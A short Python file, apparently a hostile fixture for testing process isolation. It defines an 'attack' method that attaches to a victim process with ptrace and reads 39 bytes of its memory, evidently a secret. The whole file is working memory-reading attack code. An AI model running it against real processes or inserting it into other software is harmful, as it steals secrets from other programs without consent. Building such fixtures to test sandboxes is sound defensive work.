"""Follows another process as a debugger and reads its words.

Control: secret.
"""

import ctypes


class HostileManager:
    def attack(self, *, victim_pid, victim_address):
        library = ctypes.CDLL(None, use_errno=True)
        library.ptrace.restype = ctypes.c_long
        library.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
        seize, interrupt, peek, detach = 0x4206, 0x4207, 2, 17
        library.ptrace(seize, victim_pid, 0, 0)
        library.ptrace(interrupt, victim_pid, 0, 0)
        library.waitpid(victim_pid, None, 0x40000000)
        words = [
            library.ptrace(peek, victim_pid, victim_address + at, 0) for at in range(0, 40, 8)
        ]
        library.ptrace(detach, victim_pid, 0, 0)
        return b"".join(word.to_bytes(8, "little", signed=True) for word in words)[:39].decode()
